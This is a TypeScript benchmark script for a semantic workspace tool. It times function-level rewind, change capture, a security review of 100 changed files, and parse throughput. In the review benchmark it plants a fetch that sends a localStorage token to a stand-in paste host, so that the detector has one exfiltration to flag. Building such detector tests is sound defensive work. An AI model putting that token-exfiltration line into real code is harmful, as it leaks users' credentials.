/**
 * The semantic workspace under load: surgical rewind of one function in a 5,000-line file
 * (goal <= 50 ms: the surgery alone, in process, with the pre-rewind snapshot and the atomic
 * write on disk; and the whole operation `aura rewind` runs on the daemon, to an intent and to a
 * snapshot: history read from the log, snapshot blobs replicated, two signed durable appends), capturing a change that
 * touches 100 files (goal <= 1 s: scan against the last recorded state, then diff), the security review of a change
 * touching 100 files (goal <= 1 s: `securityReview` of the record, with the baseline as history), and parse /
 * parse+hash throughput in lines per second for each language, on real sources where this machine has
 * them and on generated ones otherwise.
 *
 * @example
 * npx tsx bench/workspace.ts
 */
import '../node/compat.js'
import { mkdtemp, readFile, rm, writeFile, mkdir } from 'node:fs/promises'
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { cpus, loadavg, tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { diffStates } from '../node/workspace/delta.js'
import { securityReview } from '../node/workspace/review.js'
import { FsBlobStore } from '../node/workspace/fs-blob-store.js'
import { languageOf, parse } from '../node/workspace/languages.js'
import { rewindUnit } from '../node/workspace/rewind.js'
import { emptyState, scanWorkspace, summariseState } from '../node/workspace/scan.js'
import { extractUnits } from '../node/workspace/units.js'
import { versionFromHistory } from '../node/workspace/versions.js'
import { initHome } from '../node/home.js'
import { mothershipInit } from '../node/mothership/mothership.js'
import { runOperation } from '../node/operations.js'
import { NodeRuntime } from '../node/runtime.js'
import { median, report, type Row } from './lib/harness.js'

const REVIEW_RUNS = Number(process.env.BENCH_REVIEW_RUNS ?? 5)
const REWIND_RUNS = Number(process.env.BENCH_REWIND_RUNS ?? 30)
const CAPTURE_RUNS = Number(process.env.BENCH_CAPTURE_RUNS ?? 5)
const log = (s: string): void => { process.stderr.write(s + '\n') }
let failures = 0
const check = (ok: boolean, what: string): void => { if (!ok) { failures++; log(`  CHECK FAILED: ${what}`) } }

function percentile (xs: number[], p: number): number {
  const s = [...xs].sort((a, b) => a - b)
  return s[Math.min(s.length - 1, Math.floor(p * s.length))]
}

/** A 5,000-line file: 500 ten-line functions, in the given language. */
function bigFile (lang: 'ts' | 'py', variant: (i: number) => string = () => ''): string {
  const out: string[] = []
  for (let i = 0; i < 500; i++) {
    if (lang === 'ts') {
      out.push(`export function handler${i} (req: Request, limit: number): number {`, `  // handler ${i}`, `  const items = req.items.filter((x) => x.size < limit)${variant(i)}`,
        '  let total = 0', '  for (const it of items) {', '    total += it.size * 2', '  }', '  if (total > limit) throw new Error(\'too big\')', '  return total', '}')
    } else {
      out.push(`def handler_${i}(req, limit):`, `    """Handler ${i}."""`, `    items = [x for x in req.items if x.size < limit]${variant(i)}`,
        '    total = 0', '    for it in items:', '        total += it.size * 2', '    if total > limit:', '        raise ValueError("too big")', '    return total', '')
    }
  }
  return out.join('\n') + '\n'
}

async function benchRewind (lang: 'ts' | 'py'): Promise<Row> {
  const dir = await mkdtemp(join(tmpdir(), 'aura-bench-rw-'))
  try {
    const root = join(dir, 'ws')
    await mkdir(root)
    const path = lang === 'ts' ? 'src/handlers.ts' : 'src/handlers.py'
    const name = lang === 'ts' ? 'handler250' : 'handler_250'
    const good = bigFile(lang)
    const bad = bigFile(lang, (i) => i === 250 ? (lang === 'ts' ? '.concat(evil())' : ' + evil()') : i === 251 ? (lang === 'ts' ? '.slice(1)' : '[1:]') : '')
    const expected = bigFile(lang, (i) => i === 251 ? (lang === 'ts' ? '.slice(1)' : '[1:]') : '')
    await mkdir(join(root, 'src'))
    await writeFile(join(root, path), good)
    const blobs = new FsBlobStore(join(dir, 'home', 'blobs'))
    const { state } = await scanWorkspace(root)
    const history = [{ id: 'good', delta: diffStates(emptyState(), state).delta }]
    check(good.split('\n').length - 1 === 5000, '5,000 lines')
    const times: number[] = []
    const cpuTimes: number[] = []
    for (let k = 0; k < REWIND_RUNS; k++) {
      await writeFile(join(root, path), bad)
      const c0 = process.cpuUsage()
      const t0 = performance.now()
      const target = await versionFromHistory(history, 'good', path, name, blobs)
      const r = await rewindUnit({ root, blobs }, { path, name, target: target ?? null, author: 'bench', ts: k })
      times.push(performance.now() - t0)
      const c = process.cpuUsage(c0)
      cpuTimes.push((c.user + c.system) / 1000)
      check(r.changed && r.snapshot !== null, 'rewind changed the file and took a snapshot')
    }
    check(await readFile(join(root, path), 'utf8') === expected, 'only the target function went back; the neighbour edited later survived')
    const row: Row = {
      label: `rewind one function in a 5,000-line ${lang === 'ts' ? 'TypeScript' : 'Python'} file`,
      unit: 'ms (median)',
      median: median(times),
      runs: times,
      cpuMedian: median(cpuTimes),
      cpuRuns: cpuTimes,
      note: `wall p95 ${percentile(times, 0.95).toFixed(1)} ms over ${REWIND_RUNS} runs; CPU median ${median(cpuTimes).toFixed(1)} ms; goal <= 50 ms`
    }
    log(`  ${row.label}: median ${row.median.toFixed(1)} ms, ${row.note ?? ''}`)
    return row
  } finally {
    await rm(dir, { recursive: true, force: true })
  }
}

/**
 * `aura rewind` as the user runs it, minus process start: the node operation the daemon serves
 * (the rewind operation on an open node with a real level store), which reads the history from the
 * log, takes the pre-rewind snapshot (blobs stored and replicated) and makes the two signed
 * durable appends (snapshot and rewind records), besides the surgery benchRewind times alone.
 * The target is an intent (the version comes from the recorded deltas) or a snapshot (the
 * baseline's: the version comes from the file the snapshot holds).
 */
async function benchRewindOp (target: 'intent' | 'snapshot', afterIntent = false): Promise<Row> {
  const dir = await mkdtemp(join(tmpdir(), 'aura-bench-rwop-'))
  const home = join(dir, 'home')
  const root = join(dir, 'ws')
  const path = 'src/handlers.ts'
  const name = 'handler250'
  const file = join(root, path)
  // Each case has its own file contents, so its first run parses its snapshot's file cold.
  const mark = (i: number): string => i === 499 && target === 'snapshot' ? '.slice(0)' : ''
  await initHome(home)
  let rt = await NodeRuntime.open(home)
  await mothershipInit(rt, { team: 'bench', user: 'ops' })
  await rt.close()
  rt = await NodeRuntime.open(home)
  try {
    await mkdir(join(root, 'src'), { recursive: true })
    await writeFile(file, bigFile('ts', (i) => mark(i)))
    const baseline = await runOperation('log-intent', { text: 'baseline', workspace: root }, { rt }) as { baseline: { snapshot: string } }
    // A good intent elsewhere in the file, then the bad change to handler250 and a neighbour edit.
    await writeFile(file, bigFile('ts', (i) => i === 100 ? '.slice(0)' : mark(i)))
    const good = await runOperation('log-intent', { text: 'good', workspace: root }, { rt }) as { id: string }
    const bad = bigFile('ts', (i) => i === 100 ? '.slice(0)' : i === 250 ? '.concat(evil())' : i === 251 ? '.slice(1)' : mark(i))
    await writeFile(file, bad)
    await runOperation('log-intent', { text: 'bad', workspace: root }, { rt })
    const expected = bigFile('ts', (i) => i === 100 ? '.slice(0)' : i === 251 ? '.slice(1)' : mark(i))
    const to = target === 'intent' ? good.id : baseline.baseline.snapshot
    const times: number[] = []
    const cpuTimes: number[] = []
    for (let k = 0; k < REWIND_RUNS; k++) {
      await writeFile(file, bad)
      // Playbook 3's path: the agent's intent captured the bad version, then the operator rewinds.
      if (afterIntent) await runOperation('log-intent', { text: `bad again ${k}`, workspace: root }, { rt })
      const c0 = process.cpuUsage()
      const t0 = performance.now()
      const r = await runOperation('rewind', { function: `${path}:${name}`, to, workspace: root }, { rt }) as { changed: boolean, record: string | null }
      times.push(performance.now() - t0)
      const c = process.cpuUsage(c0)
      cpuTimes.push((c.user + c.system) / 1000)
      check(r.changed && r.record !== null, 'the rewind operation changed the file and wrote its record')
    }
    const text = await readFile(file, 'utf8')
    // A snapshot target holds the baseline: handler100's good intent is not handler250's business, it stays.
    check(text === expected, `only ${name} went back (to the ${target}); the neighbours kept their edits`)
    const row: Row = {
      label: `aura rewind operation (history, pre-rewind snapshot, 2 signed appends) of one function in a 5,000-line TypeScript file, to ${target === 'intent' ? 'an intent' : 'a snapshot'}, ${afterIntent ? 'right after the agent\'s intent captured it' : 'edited since any intent'}`,
      unit: 'ms (median)',
      median: median(times),
      runs: times,
      cpuMedian: median(cpuTimes),
      cpuRuns: cpuTimes,
      note: `wall p95 ${percentile(times, 0.95).toFixed(1)} ms over ${REWIND_RUNS} runs; CPU median ${median(cpuTimes).toFixed(1)} ms; ${afterIntent ? 'the current file comes parsed from the capture (languages.ts keepTree), the target\'s was parsed by the rows above' : `the first run (cold: the snapshot's file parsed, not yet cached) ${times[0].toFixed(1)} ms wall, ${cpuTimes[0].toFixed(1)} ms CPU`}; goal <= 50 ms; the surgery alone is the rows above`
    }
    log(`  ${row.label}: median ${row.median.toFixed(1)} ms, ${row.note ?? ''}`)
    return row
  } finally {
    await rt.close()
    await rm(dir, { recursive: true, force: true })
  }
}

/** A 150-line module with 15 functions; `v` changes one function's logic. */
function module150 (i: number, lang: 'ts' | 'py', v: number): string {
  const out: string[] = lang === 'ts' ? [`import { util${i} } from './util'`, ''] : [`from .util import util_${i}`, '']
  for (let f = 0; f < 15; f++) {
    const k = f === 7 ? v : 0
    if (lang === 'ts') out.push(`export function f${i}_${f} (a: number, b: number): number {`, `  const x = a * ${f + 1} + b`, `  if (x > ${100 + k}) {`, '    return x - b', '  }', '  const y = x / 2', '  return y + a', '}', '')
    else out.push(`def f${i}_${f}(a, b):`, `    x = a * ${f + 1} + b`, `    if x > ${100 + k}:`, '        return x - b', '    y = x / 2', '    return y + a', '', '', '')
  }
  return out.join('\n') + '\n'
}

async function benchCapture (): Promise<Row> {
  const root = await mkdtemp(join(tmpdir(), 'aura-bench-cap-'))
  try {
    const FILES = 200
    const write = async (v: number, only?: number): Promise<void> => {
      for (let i = 0; i < FILES; i++) {
        if (only !== undefined && i % 2 !== 0) continue
        const lang = i % 4 === 0 ? 'py' : 'ts'
        const p = join(root, `pkg${i % 10}`, `m${i}.${lang}`)
        await mkdir(dirname(p), { recursive: true })
        await writeFile(p, module150(i, lang, v))
      }
    }
    await write(0)
    let baseline = summariseState((await scanWorkspace(root)).state)
    const times: number[] = []
    const cpuTimes: number[] = []
    let lines = 0
    for (let k = 1; k <= CAPTURE_RUNS; k++) {
      await write(k, 0)
      const c0 = process.cpuUsage()
      const t0 = performance.now()
      const { state } = await scanWorkspace(root, { baseline })
      const { delta } = diffStates(baseline, state)
      times.push(performance.now() - t0)
      const c = process.cpuUsage(c0)
      cpuTimes.push((c.user + c.system) / 1000)
      baseline = summariseState(state)
      check(delta.entries.length === FILES / 2 && delta.entries.every((e) => e.change === 'modified'), `100 modified units (got ${delta.entries.length})`)
      lines = Object.keys(state.files).length * 150
    }
    const row: Row = { label: 'capture a change touching 100 of 200 files (scan + diff)', unit: 'ms (median)', median: median(times), runs: times, cpuMedian: median(cpuTimes), cpuRuns: cpuTimes, note: `${lines.toLocaleString('en-US')} lines in the workspace, 100 files re-parsed; CPU median ${median(cpuTimes).toFixed(0)} ms; goal <= 1,000 ms` }
    log(`  ${row.label}: median ${row.median.toFixed(0)} ms (${times.map((t) => t.toFixed(0)).join(', ')}), ${row.note ?? ''}`)
    return row
  } finally {
    await rm(root, { recursive: true, force: true })
  }
}

function walkFiles (dir: string, ext: string, limit: number, out: string[] = []): string[] {
  let names: string[]
  try { names = readdirSync(dir) } catch { return out }
  for (const n of names) {
    if (out.length >= limit) break
    const p = join(dir, n)
    const st = statSync(p)
    if (st.isDirectory()) { if (n !== 'test' && n !== 'tests') walkFiles(p, ext, limit, out) } else if (n.endsWith(ext) && !n.endsWith('.d.ts') && st.size < 200_000) out.push(p)
  }
  return out
}

function tsxSample (): string {
  const out: string[] = ["import { useState } from 'react'", '']
  for (let i = 0; i < 400; i++) {
    out.push(`export function Item${i} ({ label, n }: { label: string, n: number }) {`, '  const [open, setOpen] = useState(false)', '  return (',
      `    <li className="item item-${i}" onClick={() => setOpen(!open)}>`, '      {label}: {n * 2}', '      {open && <span className="more">details</span>}', '    </li>', '  )', '}', '')
  }
  return out.join('\n') + '\n'
}

function throughput (label: string, files: Array<{ path: string, text: string }>): Row[] {
  const lines = files.reduce((n, f) => n + f.text.split('\n').length, 0)
  const timeIt = (op: () => void): number[] => {
    op()
    return Array.from({ length: 5 }, () => {
      const t0 = performance.now()
      op()
      return lines / ((performance.now() - t0) / 1000)
    })
  }
  const parseRuns = timeIt(() => {
    for (const f of files) parse(languageOf(f.path) as NonNullable<ReturnType<typeof languageOf>>, f.text)
  })
  let units = 0
  const hashRuns = timeIt(() => {
    units = 0
    for (const f of files) units += extractUnits(f.path, f.text).units.length
  })
  const rows: Row[] = [
    { label: `parse: ${label}`, unit: 'lines/s', median: median(parseRuns), runs: parseRuns, note: `${files.length} files, ${lines.toLocaleString('en-US')} lines` },
    { label: `parse + units + hashes: ${label}`, unit: 'lines/s', median: median(hashRuns), runs: hashRuns, note: `${units.toLocaleString('en-US')} units` }
  ]
  for (const r of rows) log(`  ${r.label}: ${Math.round(r.median).toLocaleString('en-US')} lines/s (${r.note ?? ''})`)
  return rows
}

/** A ~150-line service module in one of the four languages: a client, a guard, helpers; `v` edits three functions. */
function serviceModule (i: number, ext: 'ts' | 'tsx' | 'js' | 'py', v: number): string {
  const out: string[] = []
  if (ext === 'py') {
    out.push('import requests', 'from .errors import Forbidden', '', `API = "https://api.internal.example/v${i}"`, '', '')
    out.push('def require_owner(user, row):', `    if user is None or row.owner_id != user.id${v > 0 ? ' or row.locked' : ''}:`, '        raise Forbidden("not yours")', '', '')
    out.push('def fetch_row(session, rid):', `    r = session.get(f"{API}/rows/{rid}", timeout=${5 + v})`, '    r.raise_for_status()', '    return r.json()', '', '')
    for (let k = 0; k < 12; k++) out.push(`def helper_${i}_${k}(a, b):`, `    x = a * ${k + 1} + b`, `    if x > ${100 + (k === 3 ? v : 0)}:`, '        return x - b', `    label = "row-${i}-${k}-aZ9kQ2mX7pL4"`, '    return (x / 2, label)', '', '')
    return out.join('\n') + '\n'
  }
  const ts = ext !== 'js'
  const ty = (t: string): string => ts ? t : ''
  out.push(ext === 'js' ? "const { Forbidden } = require('./errors')" : "import { Forbidden } from './errors'", `const API = 'https://api.internal.example/v${i}'`, '')
  out.push(`function requireOwner (user${ty(': User | undefined')}, row${ty(': Row')})${ty(': void')} {`, `  if (!user || row.ownerId !== user.id${v > 0 ? ' || row.locked' : ''}) throw new Forbidden('not yours')`, '}', '')
  out.push(`async function fetchRow (id${ty(': string')}) {`, `  const r = await fetch(\`\${API}/rows/\${id}\`, { signal: AbortSignal.timeout(${5000 + v}) })`, "  if (!r.ok) throw new Error('status ' + r.status)", '  return await r.json()', '}', '')
  for (let k = 0; k < 12; k++) out.push(`export function helper${i}_${k} (a${ty(': number')}, b${ty(': number')}) {`, `  const x = a * ${k + 1} + b`, `  if (x > ${100 + (k === 3 ? v : 0)}) return x - b`, `  const label = 'row-${i}-${k}-aZ9kQ2mX7pL4'`, ext === 'tsx' ? '  return <span title={label}>{x / 2}</span>' : '  return [x / 2, label]', '}', '')
  out.push('module.exports = { requireOwner, fetchRow }'.replace(/^/, ext === 'js' ? '' : '// '))
  return out.join('\n') + '\n'
}

async function benchReview (): Promise<Row> {
  const exts = ['ts', 'tsx', 'js', 'py'] as const
  const files = (v: number): Record<string, string> => {
    const out: Record<string, string> = {}
    for (let i = 0; i < 100; i++) { const ext = exts[i % 4]; out[`svc/s${i}.${ext}`] = serviceModule(i, ext, v) }
    // One real finding among the noise: a token leaves with a request.
    if (v > 0) out['svc/s0.ts'] = out['svc/s0.ts'].replace('const r = await fetch(`${API}/rows/${id}`', "const r = await fetch(`https://paste.example.net/x?t=${localStorage.getItem('token')}`")
    return out
  }
  const stateOf = (fs: Record<string, string>): ReturnType<typeof emptyState> => {
    const st = emptyState()
    for (const [path, text] of Object.entries(fs)) {
      st.files[path] = { fileHash: path + text.length, units: extractUnits(path, text).units }
    }
    return st
  }
  const base = stateOf(files(0))
  const history = [{ recordId: 'base', signer: 'peer-0', actor: 'alice', delta: diffStates(emptyState(), base).delta }]
  const change = diffStates(base, stateOf(files(1))).delta
  const paths = new Set(change.entries.map((e) => e.path))
  check(paths.size === 100, `a change touching 100 files (got ${paths.size})`)
  const times: number[] = []
  const cpuTimes: number[] = []
  let flags = 0
  for (let k = 0; k < REVIEW_RUNS; k++) {
    const c0 = process.cpuUsage()
    const t0 = performance.now()
    const found = await securityReview([{ recordId: 'r', signer: 'peer-1', actor: 'claude', delta: change }], { history, thresholds: { files: 200, lines: 100000 } })
    times.push(performance.now() - t0)
    const c = process.cpuUsage(c0)
    cpuTimes.push((c.user + c.system) / 1000)
    const alerts = found.filter((x) => x.severity !== 'low')
    flags = alerts.length
    check(alerts.length === 1 && alerts[0].rule === 'network-call' && alerts[0].severity === 'high', `exactly the one injected exfiltration is alerted (got ${alerts.map((x) => `${x.rule} ${x.location}`).join(', ')})`)
  }
  const lines = Object.values(files(1)).reduce((a, t) => a + t.split('\n').length, 0)
  const row: Row = { label: 'security review of a change touching 100 files (TS, TSX, JS, Python)', unit: 'ms (median)', median: median(times), runs: times, cpuMedian: median(cpuTimes), cpuRuns: cpuTimes, note: `${change.entries.length} changed units, ${lines.toLocaleString('en-US')} lines; ${flags} alert; CPU median ${median(cpuTimes).toFixed(0)} ms; goal <= 1,000 ms` }
  log(`  ${row.label}: median ${row.median.toFixed(0)} ms (${times.map((t) => t.toFixed(0)).join(', ')}), ${row.note ?? ''}`)
  return row
}

function load (paths: string[]): Array<{ path: string, text: string }> {
  return paths.map((p) => ({ path: p, text: readFileSync(p, 'utf8') }))
}

log(`workspace: load average ${loadavg().map((x) => x.toFixed(1)).join(' ')} on ${cpus().length} cores`)
log('workspace: rewind')
const rows: Row[] = [await benchRewind('ts'), await benchRewind('py')]
log('workspace: the rewind operation, as `aura rewind` runs it (daemon side)')
rows.push(await benchRewindOp('intent'), await benchRewindOp('snapshot'), await benchRewindOp('intent', true), await benchRewindOp('snapshot', true))
log('workspace: capture')
rows.push(await benchCapture())
log('workspace: security review')
rows.push(await benchReview())
log('workspace: parse and hash throughput')
const py = walkFiles('/usr/lib/python3.11', '.py', 150)
const js = walkFiles('node_modules/libp2p/dist/src', '.js', 150)
const ts = walkFiles('node_modules/@libp2p', '.ts', 300).filter((p) => p.includes('/src/'))
rows.push(...throughput(py.length > 0 ? 'Python (CPython 3.11 standard library)' : 'Python (generated)', py.length > 0 ? load(py) : [{ path: 'g.py', text: bigFile('py') }]))
rows.push(...throughput(js.length > 0 ? 'JavaScript (libp2p dist)' : 'JavaScript (generated)', js.length > 0 ? load(js) : [{ path: 'g.js', text: bigFile('ts').replace(/: (number|Request)/g, '') }]))
rows.push(...throughput(ts.length > 0 ? 'TypeScript (@libp2p/* sources)' : 'TypeScript (generated)', ts.length > 0 ? load(ts) : [{ path: 'g.ts', text: bigFile('ts') }]))
rows.push(...throughput('TSX (generated components)', [{ path: 'g.tsx', text: tsxSample() }]))

if (failures > 0) {
  log(`workspace: ${failures} correctness checks failed`)
  process.exit(1)
}
report('workspace', 'semantic workspace: rewind, capture, parse and hash throughput', rows)
